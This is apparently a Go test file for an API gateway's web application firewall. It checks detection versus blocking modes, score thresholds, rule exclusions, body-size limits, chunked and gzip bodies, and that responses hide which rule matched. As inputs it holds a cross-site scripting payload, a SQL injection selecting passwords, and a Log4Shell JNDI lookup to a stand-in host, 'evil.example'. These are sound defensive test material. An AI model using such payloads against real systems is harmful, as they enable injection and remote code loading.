package gateway

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

func TestAttacksAreRefusedOrNoted(t *testing.T) {
	t.Parallel()
	up := upstreamServer(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		_, _ = fmt.Fprintf(w, "got %d", len(b))
	})
	g := newRig(t, oneUpstream(up))
	jsonType := http.Header{"Content-Type": {"application/json"}, "Accept": {"*/*"}}
	attack := `{"q":"1' UNION SELECT password FROM users -- "}`
	large := `{"q":"` + strings.Repeat("x", 20_000) + `"}`
	for _, tc := range []struct {
		name, policy string
		call         call
		status       int
		found        string
	}{
		{"detected in the address", "{}", call{method: "GET", path: "/?q=%3Cscript%3Ealert(1)%3C/script%3E"}, 200, "941"},
		{"detected in a body", "{mode: detect}", call{method: "POST", path: "/", body: attack, header: jsonType}, 200, "942"},
		{"refused in the address", "{mode: block}", call{method: "GET", path: "/?q=%3Cscript%3Ealert(1)%3C/script%3E"}, 403, "941"},
		{"refused in a body", "{mode: block}", call{method: "POST", path: "/", body: attack, header: jsonType}, 403, "942"},
		{"refused in chunks", "{mode: block}", call{method: "POST", path: "/", body: attack, header: jsonType, chunks: true}, 403, "942"},
		{"refused in a header", "{mode: block}", call{method: "GET", path: "/", header: http.Header{"X-A": {"${jndi:ldap://evil.example/a}"}}}, 403, "944"},
		{"below the threshold", "{mode: block, threshold: 1000}", call{method: "POST", path: "/", body: attack, header: jsonType}, 200, "942"},
		{"excluded", "{mode: block, exclude: [941100, 941110, 941160, 941390]}", call{method: "GET", path: "/?q=%3Cscript%3Ealert(1)%3C/script%3E"}, 200, ""},
		{"usual", "{mode: block}", call{method: "POST", path: "/orders?a=b", body: `{"amount":1}`, header: jsonType}, 200, ""},
		{"too large to look at", "{mode: block, max_body: 10kB}", call{method: "POST", path: "/", body: large, header: jsonType}, 413, ""},
		{"too large to look at, in chunks", "{mode: block, max_body: 10kB}", call{method: "POST", path: "/", body: large, header: jsonType, chunks: true}, 413, ""},
		{"too large, but passed", "{mode: block, max_body: 30kB, larger: pass}", call{method: "POST", path: "/", body: large + large, header: http.Header{"Content-Type": {"application/octet-stream"}}}, 200, ""},
		{"compressed", "{mode: block}", call{method: "POST", path: "/", body: "xx", header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}}}, 415, ""},
	} {
		if err := g.Apply([]byte(withPolicies(up, "      waf: "+tc.policy+"\n"))); err != nil {
			t.Fatal(err)
		}
		for lane, c := range plainClients(t) {
			name := lane + " " + tc.name
			before := len(g.recorded())
			if tc.call.header == nil {
				tc.call.header = http.Header{}
			}
			tc.call.header.Set("Host", "api.example") // an address in its place is a finding of its own
			resp, body := tc.call.do(t, c, g.addr)
			if resp.StatusCode != tc.status || tc.status == 200 && body != fmt.Sprintf("got %d", len(tc.call.body)) {
				t.Errorf("%s: %d %q, want %d", name, resp.StatusCode, body, tc.status)
			}
			for len(g.recorded()) == before && t.Context().Err() == nil {
			}
			x := g.recorded()[before]
			if (x.Found == "") != (tc.found == "") || tc.found != "" && (!strings.HasPrefix(x.Found, "waf: score ") || !strings.Contains(x.Found, " "+tc.found)) || (x.Policy == "waf") != (tc.status != 200) {
				t.Errorf("%s: recorded %q by %q, want %s", name, x.Found, x.Policy, tc.found)
			}
			if strings.Contains(body, "score") || strings.Contains(body, "SQL") || strings.Contains(body, "XSS") {
				t.Errorf("%s: who attacks is told by which rule: %s", name, body)
			}
		}
	}
}
